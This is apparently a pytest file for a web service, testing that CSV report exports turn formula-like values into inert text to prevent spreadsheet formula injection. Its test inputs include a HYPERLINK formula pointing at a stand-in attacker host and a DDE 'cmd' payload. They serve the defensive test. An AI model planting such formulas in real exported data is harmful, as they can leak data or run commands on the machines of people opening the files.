"""Text a spreadsheet would run as a formula is written to every CSV as inert text (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient

from service.reports.cells import cell
from tests.conftest import purchase

Client = AsyncTestClient[Litestar]

HOSTILE = ["=1+1", "+SUM(1,1)", "@SUM(1,1)", "-2+3", '=HYPERLINK("attacker.example?q","x")']


def rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_exports_write_formula_like_ids_as_text(client: Client, keys: dict[str, Any]) -> None:
    for i, hostile in enumerate(HOSTILE):
        event = purchase(hostile, hostile, 150.0)  # event id, customer id and order id all hostile
        event["order"]["order_id"] = hostile
        response = await client.post("/v1/events", json=event, headers=keys["events:write"])
        assert response.status_code == 201, (i, response.text)
        assert response.json()["awards"], "the test rules give a mug for 150"

    for export in ("awards", "exposures"):
        found = rows(await client.get(f"/v1/exports/{export}.csv", headers=keys["reports:read"]))
        assert {r["customer_id"] for r in found} == {"'" + h for h in HOSTILE}, export
        assert {r["event_id"] for r in found} == {"'" + h for h in HOSTILE}, export
        for row in found:
            for column, value in row.items():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (export, column, value)
                if value.startswith("-"):  # a negative number is a number, not a formula
                    float(value)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-12.5, -12.5),
        (None, ""),
    ],
)
def test_a_cell_is_made_inert_only_when_a_spreadsheet_would_read_a_formula(value: object, written: object) -> None:
    assert cell(value) == written
